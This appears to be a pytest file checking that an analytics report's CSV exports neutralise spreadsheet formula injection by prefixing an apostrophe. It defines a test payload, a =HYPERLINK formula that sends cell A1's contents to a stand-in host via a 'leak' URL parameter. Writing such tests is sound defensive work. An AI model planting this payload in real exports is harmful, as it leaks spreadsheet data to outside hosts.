"""The report's CSV tables never hand a spreadsheet a live formula from document text."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from analytics import open_store
from analytics.model import Document, Extraction
from analytics.report import build_report

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'


def test_text_a_spreadsheet_would_run_gets_an_apostrophe(
    tmp_path: Path,
    make_document: Callable[..., Document],
    make_extraction: Callable[..., Extraction],
) -> None:
    """Before: a title or a stated reason beginning with '=HYPERLINK(' landed in documents.csv and
    largest_changes.csv as a live formula cell."""
    db = tmp_path / "db.duckdb"
    extraction = make_extraction()
    changed = replace(extraction.facts[1], reason=f"{LINK}公车改革车辆减少")
    extraction = replace(
        extraction,
        metadata=replace(extraction.metadata, title=LINK),
        facts=[extraction.facts[0], changed, extraction.facts[2]],
    )
    with open_store(db) as store:
        store.write_document(make_document(), extraction)
    result = build_report(db, tmp_path / "reports", today=dt.date(2026, 11, 25))

    def rows(name: str) -> list[dict[str, str]]:
        text = (result.folder / "tables" / f"{name}.csv").read_text(encoding="utf-8-sig")
        return list(csv.DictReader(text.splitlines()))

    (document,) = rows("documents")
    assert document["title"] == "'" + LINK
    changes = rows("largest_changes")
    assert [c["reason"] for c in changes if c["reason"]] == [f"'{LINK}公车改革车辆减少"]
    assert any(c["change"].startswith("-") for c in changes)  # numbers stay numbers, minus sign and all
    raw = "\n".join((result.folder / "tables" / name).read_text(encoding="utf-8-sig")
                    for name in ("documents.csv", "largest_changes.csv"))  # fmt: skip
    assert not any(cell.startswith(("=", "@", "+")) for line in csv.reader(raw.splitlines()) for cell in line)
